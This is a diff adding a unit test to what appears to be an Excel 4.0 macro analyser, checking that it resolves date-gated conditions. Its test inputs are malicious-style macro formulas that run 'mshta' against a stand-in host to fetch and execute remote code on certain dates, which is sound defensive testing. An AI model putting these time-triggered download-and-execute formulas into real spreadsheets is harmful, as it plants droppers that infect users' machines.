@@ -151,6 +151,16 @@ static void it_tries_days(void **state)
     make_xlm_free(m);
 }
 
+/* Formulas that wait for a date, or end at one; the clock shows 2021-01-26, serial number 44222. */
+static void it_tries_other_dates(void **state)
+{
+    (void)state;
+    expect(COLUMN("=IF(NOW()>44400,EXEC(\"mshta http://date.example/x\"),)", "=HALT()"), "run command=mshta http://date.example/x");
+    expect(COLUMN("=IF(TODAY()<DATE(2020,1,1),EXEC(\"mshta http://date.example/x\"),)", "=HALT()"), "run command=mshta http://date.example/x");
+    expect(COLUMN("=IF(YEAR(NOW())=2022,EXEC(\"mshta http://date.example/x\"),)", "=HALT()"), "run command=mshta http://date.example/x");
+    expect_not(COLUMN("=IF(HOUR(NOW())>20,EXEC(\"mshta http://date.example/x\"),)", "=HALT()"), "date.example");
+}
+
 static void unknown_conditions_go_both_ways(void **state)
 {
     (void)state;
@@ -432,6 +442,7 @@ int main(void)
         cmocka_unit_test(it_writes_code_and_runs_it),
         cmocka_unit_test(it_follows_jumps_and_loops),
         cmocka_unit_test(it_tries_days),
+        cmocka_unit_test(it_tries_other_dates),
         cmocka_unit_test(unknown_conditions_go_both_ways),
         cmocka_unit_test(it_reads_and_writes_files),
         cmocka_unit_test(functions_give_what_excel_gives),
